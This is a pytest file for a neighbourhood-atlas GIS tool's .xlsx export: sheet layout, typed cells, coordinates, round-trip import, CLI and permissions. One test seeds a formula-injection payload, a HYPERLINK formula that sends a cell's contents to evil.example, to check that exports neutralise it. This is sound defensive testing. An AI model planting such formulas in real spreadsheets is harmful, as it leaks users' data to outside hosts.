"""Layers out as .xlsx: typed cells, readable headers, RD and WGS84
coordinates, neutralised formulas; and back in unchanged."""

from __future__ import annotations

import datetime as dt
import json
import shutil

import openpyxl
import pytest
from shapely.geometry import Point

from geo import model as m
from geo.access import Actor
from geo.cli import main
from geo.errors import PermissionDenied, ValidationError
from geo.io.export import export_bytes, export_layers
from geo.io.places import PLACE_LAYERS, commit_places, plan_places
from geo.io.readers import read_source
from geo.store import open_store

ADMIN = Actor("beheer", "admin")


def test_everything_is_one_workbook_with_a_sheet_per_layer(demo_store, tmp_path):
    doc = export_layers(demo_store, ADMIN, tmp_path / "alles.xlsx")
    wb = openpyxl.load_workbook(tmp_path / "alles.xlsx")
    assert wb.sheetnames == ["Gebieden", "Ontmoetingsplaatsen", "Vastgoed", "Activiteiten", "Suggesties"]
    assert doc["layers"]["real_estate"] == wb["Vastgoed"].max_row - 1 == demo_store.count(m.RealEstate)


def test_cells_are_typed_and_headers_readable(demo_store, tmp_path):
    export_layers(demo_store, ADMIN, tmp_path / "v.xlsx", ["real_estate", "suggestions"], lang="en")
    wb = openpyxl.load_workbook(tmp_path / "v.xlsx")
    ws = wb["Real estate"]
    head = [c.value for c in ws[1]]
    assert head[:3] == ["Wijkatlas id (id)", "Name (name)", "Address (address)"]
    assert {"X RD New (x)", "Y RD New (y)", "Longitude WGS84 (lon)", "Latitude WGS84 (lat)"} <= set(head)
    first = dict(zip(head, [c.value for c in ws[2]]))
    stored = demo_store.get(m.RealEstate, first["Wijkatlas id (id)"])
    assert first["Occupancy (%) (occupancy_pct)"] == stored.occupancy_pct
    assert isinstance(first["Condition (NEN 2767, 1–6) (condition)"], int)
    assert first["X RD New (x)"] == round(stored.geometry.x, 2)
    assert 5.4 < first["Longitude WGS84 (lon)"] < 5.7 and 51.3 < first["Latitude WGS84 (lat)"] < 51.5
    sug = wb["Suggestions"]
    shead = [c.value for c in sug[1]]
    created = sug.cell(row=2, column=shead.index("Submitted on (created_at)") + 1)
    assert isinstance(created.value, dt.datetime) and created.is_date


def test_formula_like_text_is_neutralised(demo_store, tmp_path):
    place = demo_store.list(m.MeetingPlace)[0]
    place.name = '=HYPERLINK("https://evil.example/?"&B2,"klik")'
    place.description = "+31 40 123 4567"
    demo_store.update(place)
    export_layers(demo_store, ADMIN, tmp_path / "o.xlsx", ["meeting_places"])
    ws = openpyxl.load_workbook(tmp_path / "o.xlsx")["Ontmoetingsplaatsen"]
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]  # not one formula in the file
    names = [c.value for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert names == ["'" + place.name]
    # … and an import takes the quote off again: the name comes back as it was
    src = read_source(tmp_path / "o.xlsx")
    assert place.name in list(src.frame["Naam (name)"])
    assert "+31 40 123 4567" in list(src.frame["Omschrijving (description)"])


@pytest.mark.parametrize("layer", ["real_estate", "meeting_places", "activities", "suggestions"])
def test_round_trip_export_and_import_gives_the_same_features(demo_db_template, tmp_path, layer):
    path = tmp_path / "w.db"
    shutil.copy(demo_db_template, path)
    store = open_store(f"sqlite:///{path}")
    cls = m.LAYER_CLASSES[layer]
    spec = next(s for s in PLACE_LAYERS.values() if s.store_name == layer)
    before = sorted(store.list(cls), key=lambda r: r.id)
    export_layers(store, ADMIN, tmp_path / "laag.xlsx", [layer])
    with store.transaction():
        for r in before:
            store.delete(cls, r.id)
    plan = plan_places(store, read_source(tmp_path / "laag.xlsx"), spec.name, include_outside=True)
    assert not plan.summary.skipped and plan.summary.imported == len(before)
    commit_places(store, ADMIN, plan)
    after = store.list(cls)
    fields = [*spec.fields, "buurt_code"]

    def key(r):
        return tuple(repr(getattr(r, f)) for f in fields)

    assert sorted(map(key, after)) == sorted(map(key, before))
    by_key = {key(r): r for r in after}
    for r in before:
        back = by_key[key(r)].geometry
        assert (back is None and r.geometry is None) or back.equals_exact(r.geometry, 0.01)


def test_cli_exports_xlsx_and_refuses_other_names(demo_db_url, tmp_path, capsys):
    out = tmp_path / "atlas.xlsx"
    assert main(["--db", demo_db_url, "export", str(out), "--json"]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc["format"] == "xlsx" and set(doc["layers"]) == {"areas", "meeting_places", "real_estate",
                                                               "activities", "suggestions"}
    assert main(["--db", demo_db_url, "export", str(tmp_path / "atlas.xls")]) == 2
    assert "kies een bestandsnaam op .gpkg, .xlsx, .geojson of .csv" in capsys.readouterr().err


def test_download_bytes_are_a_workbook_and_need_the_right(demo_store):
    data = export_bytes(demo_store, ADMIN, "xlsx", ["meeting_places"], lang="en")
    assert data[:4] == b"PK\x03\x04"
    with pytest.raises(PermissionDenied):
        export_bytes(demo_store, Actor("mod", "moderator"), "xlsx")
    with pytest.raises(ValidationError):
        export_bytes(demo_store, ADMIN, "ods")


def test_points_without_geometry_are_empty_cells(store, tmp_path):
    store.add(m.Activity(title="Overleg", domain="social", status="planned", geometry=None))
    store.add(m.Activity(title="Speelplek", domain="spatial", status="planned", geometry=Point(155_000, 463_000)))
    export_layers(store, ADMIN, tmp_path / "a.xlsx", ["activities"])
    ws = openpyxl.load_workbook(tmp_path / "a.xlsx").active
    head = [c.value for c in ws[1]]
    rows = [dict(zip(head, [c.value for c in r])) for r in ws.iter_rows(min_row=2)]
    assert rows[0]["X RD New (x)"] is None and rows[1]["X RD New (x)"] == 155000
